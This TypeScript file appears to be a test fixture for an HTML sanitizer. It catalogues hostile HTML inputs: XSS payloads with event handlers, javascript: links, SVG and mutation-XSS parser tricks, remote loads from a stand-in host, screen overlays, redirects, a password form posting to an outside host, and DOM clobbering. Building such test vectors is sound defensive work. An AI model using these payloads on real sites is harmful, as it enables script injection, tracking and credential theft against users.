import type { Vector } from './hostile-vectors.ts';

const AT = 'http://elsewhere.example';

/** Our own attacks by class: what each tries is its id. */
const ATTACKS: Readonly<Record<string, string>> = {
  'script/element': '<script>alert(1)</script><p>x</p>',
  'script/handler': '<img src="x:" onerror="alert(1)"><b onmouseover="alert(2)">x</b>',
  'script/link':
    '<a href="javascript:alert(1)">a</a><a href=" java&#9;script:alert(1)">b</a><a href="&#1;javascript:alert(1)">c</a>',
  'script/data link': '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  'script/svg':
    '<svg onload="alert(1)"><animate onbegin="alert(2)" attributeName="x" dur="1s"/><script>alert(3)</script></svg>',
  'script/svg link': '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
  'script/math':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'script/noscript': '<noscript><p title="</noscript><img src=x: onerror=alert(1)>">',
  'script/template': '<template><script>alert(1)</script></template><div>x</div>',
  'script/details': '<details open ontoggle="alert(1)"><summary>x</summary></details>',
  'script/focus': '<p tabindex="0" autofocus onfocus="alert(1)">x</p><input autofocus onfocus="alert(2)">',
  'script/style end': '<style>a{content:"</style><img src=x: onerror=alert(1)>"}</style>',
  'script/comment': '<!--><img src=x: onerror=alert(1)>--><p>x</p>',
  'script/frames': '<frameset onload="alert(1)"><frame src="javascript:alert(2)"></frameset>',
  'script/marquee': '<marquee onstart="alert(1)">x</marquee>',
  'script/nested forms': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'load/image': `<img src="${AT}/image"><img srcset="${AT}/set 1x"><input type="image" src="${AT}/input">`,
  'load/picture': `<picture><source srcset="${AT}/source"><img src="data:,"></picture>`,
  'load/relative': '<img src="/favicon.svg?relative"><img src="relative.png"><img src="//elsewhere.example/x">',
  'load/background attribute': `<table background="${AT}/table"><tr><td background="${AT}/cell">x</table><body background="${AT}/body">`,
  'load/inline style': `<p style="background:url(${AT}/p)">x</p><ul style="list-style:url('${AT}/li')"><li>x</ul>`,
  'load/relative style':
    '<p style="background:url(/favicon.svg?style)">x</p><style>p{background:url(/favicon.svg?sheet)}</style>',
  'load/escaped style': `<p style="background:u\\72l(${AT}/escaped)">x</p><style>b{background:\\75\\72\\6c(${AT}/b)}</style><b>x</b>`,
  'load/image-set': `<p style="background:image-set('${AT}/set' 1x)">x</p><style>p{background:-webkit-image-set('/favicon.svg?set' 1x)}</style>`,
  'load/variable': `<style>p{--x:url(/favicon.svg?variable);background:var(--x)}</style><p>x</p><p style="--y:url(/favicon.svg?y);background:var(--y)">y</p>`,
  'load/import': `<style>@import "${AT}/import";@import url(/favicon.svg?import);p{color:red}</style><p>x</p>`,
  'load/font': `<style>@font-face{font-family:x;src:url(${AT}/font)}@font-face{font-family:y;src:url(/favicon.svg?font)}p{font-family:x,y}</style><p>x</p>`,
  'load/media rule':
    '<style>@media screen{p{background:url(/favicon.svg?media)}}@supports(color:red){p{cursor:url(/favicon.svg?cursor),auto}}</style><p>x</p>',
  'load/generated':
    '<style>p::before{content:url(/favicon.svg?content)}p::after{content:"x";border-image:url(/favicon.svg?border) 1}</style><p>x</p>',
  'load/filter':
    '<p style="filter:url(/favicon.svg?filter#x);mask:url(/favicon.svg?mask);clip-path:url(/favicon.svg?clip#x)">x</p>',
  'load/nested rule': '<style>p{color:red;&:hover,&{background:url(/favicon.svg?nested)}}</style><p>x</p>',
  'load/link': `<link rel="stylesheet" href="${AT}/css"><link rel="prefetch" href="${AT}/prefetch"><link rel="icon" href="${AT}/icon">`,
  'load/hints': `<link rel="preload" as="image" href="${AT}/preload"><link rel="modulepreload" href="${AT}/module"><link rel="manifest" href="${AT}/manifest">`,
  'load/media': `<video src="${AT}/video" poster="${AT}/poster" autoplay></video><audio src="${AT}/audio" autoplay></audio><video><track src="${AT}/track"></video>`,
  'load/svg': `<svg><image href="${AT}/svg-image" width="9" height="9"/><use href="${AT}/use#x"/><filter><feImage href="${AT}/fe"/></filter></svg>`,
  'load/frames': `<iframe src="${AT}/frame"></iframe><object data="${AT}/object"></object><embed src="${AT}/embed">`,
  'load/frame inside': `<iframe srcdoc="<img src=${AT}/inside><script>alert(1)</script>"></iframe>`,
  'load/ping': `<a href="${AT}/a" ping="${AT}/ping">x</a>`,
  'cover/fixed': '<div style="position:fixed;inset:0;z-index:99999;background:red">x</div>',
  'cover/sheet':
    '<style>div{position:fixed!important;inset:0;z-index:9}p{position:sticky;top:0}</style><div>x</div><p>y</p>',
  'cover/variable':
    '<style>div{--p:fixed;position:var(--p);inset:0}</style><div>x</div><p style="--q:fixed;position:var(--q)">y</p>',
  'cover/margin': '<div style="margin:-900px;transform:scale(20);background:red;width:3000px;height:3000px">x</div>',
  'cover/popover': '<div popover="manual" id="p">x</div><dialog open>y</dialog>',
  'move/refresh': `<meta http-equiv="refresh" content="0;url=${AT}/refresh"><p>x</p>`,
  'move/base': `<base href="${AT}/" target="_top"><a href="x">x</a>`,
  'move/target': '<a href="/app/mail/trash" target="_top">x</a><a href="/app/mail/trash" target="_parent">y</a>',
  'send/form': `<form action="${AT}/form" method="post"><input name="password"><button>go</button></form>`,
  'send/form elsewhere': `<form id="f"></form><button form="f" formaction="${AT}/elsewhere">go</button>`,
  'clobber/document': '<img name="body"><a id="head"></a><form name="documentElement"></form><img name="styleSheets">',
  'clobber/form':
    '<form id="x"><input name="attributes"><input name="parentNode"></form><form name="querySelectorAll"></form>',
};

export const OWN_VECTORS: readonly Vector[] = [
  ...Object.entries(ATTACKS).map(([id, html]) => ({ id, html })),
  { id: 'text/markup', html: '', text: '<script>alert(1)</script> <img src=x: onerror=alert(1)>' },
  {
    id: 'text/link',
    html: '',
    text: 'http://x"onmouseover="alert(1) javascript:alert(1) http://<b>x</b> www.a"><script>alert(1)</script>',
  },
];
